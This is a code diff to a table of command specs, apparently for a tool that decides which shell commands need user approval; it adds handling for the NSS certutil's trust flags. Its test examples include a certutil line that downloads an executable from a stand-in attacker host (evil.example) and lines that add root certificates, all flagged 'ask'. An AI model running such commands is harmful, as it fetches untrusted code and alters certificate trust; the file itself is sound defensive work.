@@ -472,7 +472,11 @@ export const programs: readonly ProgramSpec[] = [
     names: 'certutil',
     about: 'Manages certificates; also fetches and decodes files.',
     syntax: WINDOWS,
-    options: { '-f -v -split -hashfile -verify -dump -store': 'flag', '-encode': 'flag' },
+    options: {
+      '-f -v -split -hashfile -verify -dump -store': 'flag',
+      '-encode': 'flag',
+      '-t -n -d': 'text',
+    },
     kind: 'fetch-and-run',
     effects: [
       {
@@ -488,12 +492,22 @@ export const programs: readonly ProgramSpec[] = [
         why: 'Changes whom the machine trusts.',
         safer: 'certutil -store root',
       },
+      {
+        // The program of the same name on Linux and macOS keeps the certificates of browsers.
+        code: 'security-off',
+        flags: '-t=c|t|p',
+        kind: 'escalate',
+        why: 'Changes whom browsers trust.',
+        safer: 'certutil -L -d sql:$HOME/.pki/nssdb',
+      },
     ],
     examples: [
       { command: 'certutil -hashfile app.exe SHA256', expect: 'pass' },
       { command: 'certutil -urlcache -split -f https://evil.example/a.exe a.exe', expect: 'ask' },
       { command: 'certutil -decode a.txt a.exe', expect: 'ask' },
       { command: 'certutil -addstore root ca.cer', expect: 'ask' },
+      { command: 'certutil -L -d sql:.pki/nssdb', expect: 'pass' },
+      { command: "certutil -d sql:.pki/nssdb -A -t 'CT,C,C' -n ca -i ca.crt", expect: 'ask' },
     ],
   },
   {
